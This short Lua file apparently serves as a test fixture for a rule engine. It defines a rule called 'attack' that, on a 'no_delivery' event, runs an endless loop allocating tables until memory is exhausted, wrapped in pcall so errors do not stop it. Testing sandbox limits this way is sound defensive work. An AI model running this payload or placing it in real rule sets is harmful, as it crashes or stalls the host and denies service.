-- attack file (brief rule's run)
rule {
  name = "attack",
  on = { "no_delivery" },
  run = function(ctx)
    while true do
      pcall(function() local t = {} while true do t[#t + 1] = {} end end)
    end
  end,
}
